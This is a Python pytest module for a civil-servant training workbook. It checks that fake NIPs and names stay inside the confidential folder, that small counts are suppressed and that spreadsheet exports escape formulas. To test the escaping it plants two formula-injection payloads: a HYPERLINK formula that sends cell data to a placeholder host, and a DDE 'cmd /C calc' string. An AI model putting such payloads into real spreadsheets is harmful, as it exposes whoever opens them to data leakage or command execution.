"""Personal data: no identifier leaves the confidential class; suppression holds in every aggregate.

The sample agency is copied to a temporary folder and given what a real SIASN export carries: a
``nip`` (fake but valid-looking 18-digit NIPs, consistent with TMT and sex) and a ``nama`` column
(fake names). Employees that no other table refers to lose their ``pegawai_id``, so their id is
the keyed pseudonym derived from the NIP. The pseudonym key sits in a temporary folder named by
an agency settings file (``privacy.pseudonym_key_file``). The four stages run, then the agency
report (HTML, PDF, XLSX), one unit's report (HTML, XLSX) and the four manager dashboards (every
unit, both languages) are rendered.

Every file under the output folder except ``confidential/`` is scanned — Parquet cells and
column names, XLSX cell text, CSV/HTML/JSON/text, PDF streams (inflated) and any other file's
bytes — for every raw NIP and name; aggregate folders (everything outside ``restricted/`` and
``confidential/``) and the dashboard pages are also scanned for every ``pegawai_id`` and
pseudonym. The scanner is checked on the confidential folder, where the names must be found.
"""

from __future__ import annotations

import html
import json
import random
import re
import shutil
import zlib
from collections import Counter
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from _paths import SAMPLE

YEAR = 2027
FIRST = ["Ahmad", "Siti", "Budi", "Dewi", "Rizky", "Nurul", "Agus", "Rina", "Hendra", "Yuliana", "Fajar", "Wulan",
         "Eko", "Intan", "Bayu", "Ratna", "Dimas", "Lestari", "Arief", "Maya", "Teguh", "Putri", "Yoga", "Indah",
         "Rahmat", "Fitri", "Joko", "Ayu", "Gilang", "Sari"]
LAST = ["Wibisono", "Kartikasari", "Pranoto", "Handayani", "Saputra", "Rahmawati", "Gunawan", "Permatasari",
        "Nugroho", "Susanti", "Hidayat", "Puspitasari", "Kurniawan", "Anggraeni", "Setiawan", "Maharani", "Siregar",
        "Lubis", "Simanjuntak", "Wijayakusuma", "Tanjung", "Manurung", "Purbaya", "Sembiring", "Pangaribuan",
        "Halawa", "Matondang", "Rangkuti", "Sitompul", "Batubara", "Harahap", "Nasution", "Damanik", "Ginting",
        "Tarigan", "Sinaga", "Panjaitan", "Hutapea", "Sihombing", "Pasaribu"]
INJECTION = ('=HYPERLINK("http://contoh.invalid/?d="&A1,"Pelatihan")', "@SUM(1+1)*cmd|' /C calc'!A0")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TOKEN = re.compile(r"[A-Za-z0-9]+")
# Aggregate tables whose ``n`` counts things, not people (no k applies).
NOT_PEOPLE = {"validation_summary", "agreement", "deidentification"}  # counts of problems, judges, replaced strings
# Suppression basis and parent of every aggregate table with complementary suppression.
BASIS = {"overview_units": "n_respondents", "unit_competency": "n_basis", "themes": "n_group"}
PARENTS = {"overview_positions": ["dimension"], "unit_competency": ["kode_kompetensi"],
           "followup_units": ["reason"], "below_minimum_reasons": ["reason"], "themes": ["kelompok", "sumber"],
           "overview_units": [], "profiles": [], "coverage": []}
SCANNED: Counter = Counter()


def _make_agency(dest: Path) -> tuple[pd.DataFrame, list[str]]:
    shutil.copytree(SAMPLE, dest)
    peg = pd.read_csv(dest / "pegawai.csv", dtype=str, keep_default_na=False)
    rng = random.Random(2027)
    names = [f"{f} {last}" for f in FIRST for last in LAST]
    rng.shuffle(names)
    nips = []
    for i, r in enumerate(peg.itertuples(index=False)):
        ty, tm = int(r.tmt[:4]), int(r.tmt[5:7])
        born = (max(1962, ty - rng.randint(22, 32)), rng.randint(1, 12), rng.randint(1, 28))
        sex = "1" if r.jenis_kelamin == "L" else "2"
        nips.append(f"{born[0]:04d}{born[1]:02d}{born[2]:02d}{ty:04d}{tm:02d}{sex}{i % 1000:03d}")
    peg.insert(1, "nip", nips)
    peg.insert(2, "nama", names[: len(peg)])
    # employees no other table refers to get their id from the NIP (keyed pseudonym); the training
    # history (nearly everyone has a Latsar row) is left out of "refers to": their rows are dropped
    used: set[str] = set()
    for p in dest.glob("*.csv"):
        if p.name not in ("pegawai.csv", "riwayat_pelatihan.csv"):
            head = pd.read_csv(p, nrows=0).columns
            cols = [c for c in ("pegawai_id", "atasan_id") if c in head]
            if cols:
                used |= set(pd.read_csv(p, usecols=cols, dtype=str).stack())
    free = ~peg["pegawai_id"].isin(used)
    riwayat = dest / "riwayat_pelatihan.csv"
    if riwayat.is_file():
        rw = pd.read_csv(riwayat, dtype=str, keep_default_na=False)
        rw[~rw["pegawai_id"].isin(set(peg.loc[free, "pegawai_id"]))].to_csv(riwayat, index=False)
    original_ids = peg["pegawai_id"].tolist()
    peg.loc[free, "pegawai_id"] = ""
    peg.to_csv(dest / "pegawai.csv", index=False)
    # formula-like text that must come out escaped in every export
    kat = pd.read_csv(dest / "katalog_program.csv", dtype=str, keep_default_na=False)
    kat.loc[0, "nama_program"] = INJECTION[0]
    kat.loc[1, "penyelenggara"] = INJECTION[1]
    kat.to_csv(dest / "katalog_program.csv", index=False)
    return peg.assign(pegawai_id=original_ids), peg.loc[free, "nip"].tolist()


def _parquet_text(p: Path) -> str:
    df = pd.read_parquet(p)
    parts = [" ".join(map(str, df.columns))]
    for c in df.columns:
        parts.append(" ".join(" ".join(map(str, v)) if isinstance(v, (list, np.ndarray)) else str(v)
                              for v in df[c].tolist()))
    return "\n".join(parts)


def _xlsx_text(p: Path) -> str:
    from openpyxl import load_workbook

    wb = load_workbook(p, read_only=True, data_only=False)
    out = []
    for ws in wb.worksheets:
        out.append(ws.title)
        for row in ws.iter_rows(values_only=True):
            out.append(" ".join("" if v is None else str(v) for v in row))
    wb.close()
    return "\n".join(out)


def _pdf_text(p: Path) -> str:
    data = p.read_bytes()
    parts = [data.decode("latin-1")]
    for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.DOTALL):
        try:
            parts.append(zlib.decompress(m.group(1)).decode("latin-1"))
        except zlib.error:
            continue
    return "\n".join(parts)


def _text_of(p: Path) -> str:
    ext = p.suffix.lower()
    SCANNED[ext or "(none)"] += 1
    if ext == ".parquet":
        return _parquet_text(p)
    if ext == ".xlsx":
        return _xlsx_text(p)
    if ext == ".pdf":
        return _pdf_text(p)
    if ext in (".csv", ".html", ".json", ".txt", ".md", ".svg", ".ipynb", ".css"):
        return html.unescape(p.read_text(encoding="utf-8-sig", errors="replace"))
    return p.read_bytes().decode("latin-1")  # e.g. a pickle cache: strings are stored as bytes


def _find(text: str, nips: set[str], names: set[str], ids: set[str] | None) -> list[str]:
    tokens = set(TOKEN.findall(text))
    hits = sorted(tokens & nips)
    if ids is not None:
        hits += sorted(tokens & ids)
    if names:
        low = text.lower()
        hits += sorted(n for n in names if n.lower() in low)
    return hits


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    from workbook.core.context import open_context
    from workbook.core.pseudonym import pseudonym
    from workbook.pipeline import run_data_check, run_evaluation, run_needs, run_plan
    from workbook.present.html import bar_svg, cards_html
    from workbook.report.laporan import make_report
    from workbook.ui import dashboard_content, dashboard_data

    root = tmp_path_factory.mktemp("privacy")
    data, out, keydir = root / "data", root / "out", root / "kunci"
    peg, free_nips = _make_agency(data)
    before = {p.name: p.read_bytes() for p in data.iterdir()}
    settings_file = root / "pengaturan.yaml"
    settings_file.write_text(f"privacy:\n  pseudonym_key_file: {keydir / 'pseudonym.key'}\n", encoding="utf-8")
    mp = pytest.MonkeyPatch()
    mp.setenv("XDG_CONFIG_HOME", str(root / "config"))
    mp.delenv("WORKBOOK_PSEUDONYM_KEY", raising=False)
    try:
        ctx = open_context(data_dir=str(data), output_dir=str(out), interactive=False,
                           settings_file=str(settings_file))
        dc = run_data_check(ctx)
        run_needs(ctx)
        run_plan(ctx)
        run_evaluation(ctx)
        make_report(ctx, "html,pdf,xlsx")
        small = "KESBANGPOL"
        make_report(open_context(data_dir=str(data), output_dir=str(out), interactive=False, unit=small,
                                 settings_file=str(settings_file)), "html,xlsx")
        # the manager dashboards, rendered as the pages show them
        pages = root / "dashboard_pages"
        pages.mkdir()
        bundle = dashboard_data.load_dashboard_data(out, YEAR, ctx.settings)
        for kind, fn in dashboard_content._CONTENT.items():  # noqa: SLF001 - the page content builders
            for unit in [None, *bundle.unit_codes()]:
                for lang in ("id", "en"):
                    c = fn(bundle, unit, lang)
                    body = [cards_html(c.headlines), html.escape(c.table_title),
                            c.table.to_html(), *map(html.escape, c.messages)]
                    body += [bar_svg(ch, lang) + ch.data.to_html() for ch in c.charts]
                    (pages / f"{kind}_{unit or 'INSTANSI'}_{lang}.html").write_text("\n".join(body),
                                                                                   encoding="utf-8")
    finally:
        mp.undo()
    key = (keydir / "pseudonym.key").read_bytes().strip()
    pseudonyms = {pseudonym(n, key) for n in peg["nip"]}
    return {"root": root, "data": data, "out": out, "keydir": keydir, "peg": peg, "free_nips": free_nips,
            "pseudonyms": pseudonyms, "pages": pages, "before": before, "report": dc.report, "ctx": ctx}


def _classify(p: Path, year_dir: Path) -> str:
    rel = p.relative_to(year_dir).parts
    return rel[0] if rel[0] in ("confidential", "restricted") else "aggregate"


def test_sample_with_nip_loads_without_errors(world):
    assert world["report"].errors == []
    assert {p.code for p in world["report"].warnings if p.file == "katalog_program.csv"} == {"formula_injection"}
    assert len(world["free_nips"]) >= 5  # some ids really come from the keyed pseudonym
    assert {p.name: p.read_bytes() for p in world["data"].iterdir()} == world["before"]


def test_no_identifier_outside_the_confidential_class(world, capsys):
    peg = world["peg"]
    nips, names = set(peg["nip"]), set(peg["nama"])
    ids = set(peg["pegawai_id"]) | world["pseudonyms"]
    year_dir = world["out"] / str(YEAR)
    found: dict[str, list[str]] = {}
    files = Counter()
    for p in sorted(year_dir.rglob("*")):
        if not p.is_file():
            continue
        cls = _classify(p, year_dir)
        if cls == "confidential":
            continue
        files[cls] += 1
        hits = _find(_text_of(p), nips, names, ids if cls == "aggregate" else None)
        if hits:
            found[str(p.relative_to(year_dir))] = hits[:5]
    for p in sorted(world["pages"].iterdir()):
        files["dashboard page"] += 1
        hits = _find(_text_of(p), nips, names, ids)
        if hits:
            found[p.name] = hits[:5]
    with capsys.disabled():
        print(f"\nprivacy scan: {sum(files.values())} files ({dict(files)}; by type {dict(SCANNED)}), "
              f"{len(nips)} NIPs, {len(names)} names, {len(ids)} ids/pseudonyms searched — "
              f"identifiers found: {sum(len(v) for v in found.values())}")
    assert files["aggregate"] >= 30 and files["restricted"] >= 10 and files["dashboard page"] >= 8
    assert {".html", ".pdf", ".xlsx", ".parquet", ".json"} <= set(SCANNED)
    assert found == {}


def test_scanner_finds_identifiers_in_the_confidential_class(world):
    """Positive control: the same scanner sees names and NIPs where they are allowed."""
    peg = world["peg"]
    conf = world["out"] / str(YEAR) / "confidential"
    files = [p for p in conf.rglob("*.xlsx")]
    assert files
    hits = set()
    for p in files:
        hits |= set(_find(_text_of(p), set(peg["nip"]), set(peg["nama"]), None))
    assert len(hits) >= 10


def test_confidential_files_are_marked_and_kept_apart(world):
    from openpyxl import load_workbook

    year_dir = world["out"] / str(YEAR)
    conf = year_dir / "confidential"
    assert "RAHASIA" in (conf / "RAHASIA.txt").read_text(encoding="utf-8")
    assert "TERBATAS" in (year_dir / "restricted" / "TERBATAS.txt").read_text(encoding="utf-8")
    xlsx = list(conf.rglob("*.xlsx"))
    assert xlsx
    for p in xlsx:
        wb = load_workbook(p, read_only=True)
        for ws in wb.worksheets:
            first = next(ws.iter_rows(min_row=1, max_row=1, values_only=True))[0]
            assert "RAHASIA" in str(first) and "CONFIDENTIAL" in str(first), (p.name, ws.title)
        wb.close()
    # identified files exist only under confidential/
    for p in year_dir.rglob("*"):
        if p.is_file() and _classify(p, year_dir) != "confidential":
            assert "rencana_individu" not in p.name and "talent_pool" not in p.name


def test_key_and_reidentification_table_stay_outside_outputs_and_inputs(world):
    keyfile = world["keydir"] / "pseudonym.key"
    reid = world["keydir"] / "pseudonym_reid.csv"
    assert keyfile.is_file() and reid.is_file()
    assert (keyfile.stat().st_mode & 0o077) == 0  # owner only
    table = pd.read_csv(reid, dtype=str, keep_default_na=False)
    assert set(world["peg"]["nip"]) <= set(table["nip"])
    for folder in (world["out"], world["data"]):
        for p in folder.rglob("*"):
            assert p.name not in ("pseudonym.key", "pseudonym_reid.csv"), p
    # a pseudonym is the keyed HMAC of the NIP: the free employees carry it in the restricted table
    pegawai = pd.read_parquet(world["out"] / str(YEAR) / "restricted" / "00_data_check" / "pegawai.parquet")
    assert "nip" not in pegawai.columns and "nama" not in pegawai.columns
    assert len(set(pegawai["pegawai_id"]) & world["pseudonyms"]) == len(world["free_nips"])


def _aggregate_tables(world) -> list[Path]:
    year_dir = world["out"] / str(YEAR)
    return [p for p in sorted(year_dir.glob("0*/*.parquet"))]


def _complements_without_primary(df: pd.DataFrame, name: str, reason: pd.Series) -> pd.Series:
    """Complementary rows in a parent (``PARENTS``; the whole table otherwise) with no primary row."""
    keys = PARENTS.get(name, [])
    parent = df.groupby(keys, dropna=False, sort=False).ngroup() if keys else pd.Series(0, index=df.index)
    has_primary = (reason == "primary").groupby(parent).transform("any")
    return (reason == "complementary") & ~has_primary


def test_suppression_holds_in_every_aggregate_table(world, capsys):
    from workbook.core.suppression import k_for

    k = k_for("count", world["ctx"].settings)
    problems, checked, parents_checked = [], 0, 0
    for p in _aggregate_tables(world):
        name = p.stem
        if name == "level3":
            continue  # see test_level3_artefact_is_suppressed
        df = pd.read_parquet(p)
        if "suppressed" not in df.columns:
            if "n" in df.columns and name not in NOT_PEOPLE:
                n = pd.to_numeric(df["n"], errors="coerce")
                bad = df[(n > 0) & (n < k)]
                checked += 1
                if len(bad):
                    problems.append(f"{p.parent.name}/{name}: n shown below {k}: {bad['n'].tolist()[:5]}")
            continue
        checked += 1
        reason = df["suppression_reason"].astype(str) if "suppression_reason" in df.columns else \
            np.where(df["suppressed"], "primary", "")
        reason = pd.Series(reason, index=df.index)
        basis = BASIS.get(name, "n")
        if basis in df.columns:
            n = pd.to_numeric(df[basis], errors="coerce")
            shown_small = df[(~df["suppressed"].astype(bool)) & n.notna() & (n < k)]
            if len(shown_small):
                problems.append(f"{p.parent.name}/{name}: {basis} shown below {k}: {n[shown_small.index].tolist()[:5]}")
            # complements of extreme shares alone keep their size (no hidden size to protect)
            hidden = reason.str.contains("primary|complementary") & ~_complements_without_primary(df, name, reason)
            if n[hidden].notna().any():
                problems.append(f"{p.parent.name}/{name}: hidden rows still show {basis}")
        if name in PARENTS:
            # a row hidden for an extreme share is a hidden child too (security review 5.4)
            hidden = reason.str.contains("primary|complementary|extreme_share").to_numpy()
            keys = PARENTS[name]
            groups = df.groupby(keys, dropna=False, sort=False).indices if keys else {None: np.arange(len(df))}
            for key, idx in groups.items():
                parents_checked += 1
                h = int(hidden[idx].sum())
                if h == 1 and len(idx) > 1:
                    problems.append(f"{p.parent.name}/{name}: parent {key} has exactly one hidden child")
    with capsys.disabled():
        print(f"\nsuppression: {checked} aggregate tables checked (k = {k}), {parents_checked} parents checked "
              f"for complementary suppression, violations: {len(problems)}")
    assert checked >= 12 and parents_checked >= 20
    assert problems == []


def test_level3_artefact_is_suppressed(world):
    from workbook.core.suppression import k_for

    df = pd.read_parquet(world["out"] / str(YEAR) / "03_evaluation" / "level3.parquet")
    n = pd.to_numeric(df["n"], errors="coerce")
    assert not ((n > 0) & (n < k_for("count", world["ctx"].settings))).any(), df[["program_id", "n"]]


def test_manifests_hold_hashes_not_identifiers(world):
    for p in (world["out"] / str(YEAR)).rglob("manifest.json"):
        m = json.loads(p.read_text(encoding="utf-8"))
        assert set(m) >= {"files", "input_hashes", "settings_sha256"}
        assert all(re.fullmatch(r"[0-9a-f]{64}|too_large", v) for v in m["input_hashes"].values())


def test_every_export_escapes_formulas(world, capsys):
    """No XLSX or CSV the workbook writes holds a formula or text a spreadsheet would run as one."""
    from openpyxl import load_workbook

    year_dir = world["out"] / str(YEAR)
    cells = files = 0
    bad = []
    seen_injection = 0
    for p in sorted(year_dir.rglob("*.xlsx")):
        files += 1
        wb = load_workbook(p)  # not read-only: data_type tells formulas from text
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.value is None:
                        continue
                    cells += 1
                    if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_START)):
                        bad.append((p.name, ws.title, c.coordinate, c.value))
                    if isinstance(c.value, str) and c.value.lstrip("'").startswith(("=HYPERLINK", "@SUM")):
                        seen_injection += 1
    for p in sorted(year_dir.rglob("*.csv")):
        files += 1
        df = pd.read_csv(p, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        for v in df.to_numpy().ravel().tolist() + list(df.columns):
            cells += 1
            if v.startswith(FORMULA_START):
                bad.append((p.name, "", "", v))
    with capsys.disabled():
        print(f"\nexports: {files} XLSX/CSV files, {cells} cells checked, {seen_injection} planted formula texts "
              f"found escaped, unescaped formulas: {len(bad)}")
    assert files >= 6 and seen_injection >= 2
    assert bad == [], bad[:10]
